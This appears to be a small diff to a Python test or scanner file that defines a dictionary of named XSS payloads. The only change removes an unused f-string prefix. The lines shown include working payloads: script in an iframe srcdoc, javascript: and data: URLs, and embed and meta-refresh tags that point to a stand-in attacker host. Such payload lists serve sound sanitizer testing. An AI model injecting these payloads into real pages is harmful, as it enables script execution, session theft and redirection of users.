@@ -37,7 +37,7 @@ NAMED_PAYLOADS: dict[str, str] = {
     "marquee": f"<marquee onstart={_JS}>x</marquee>",
     # other documents and the page itself
     "iframe": f'<iframe src="javascript:{_JS}"></iframe>',
-    "iframe_srcdoc": f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "iframe_srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
     "object": f'<object data="data:text/html,<script>{_JS}</script>"></object>',
     "embed": f'<embed src="{_EVIL}/x.swf">',
     "meta_refresh": f'<meta http-equiv="refresh" content="0;url={_EVIL}/">',
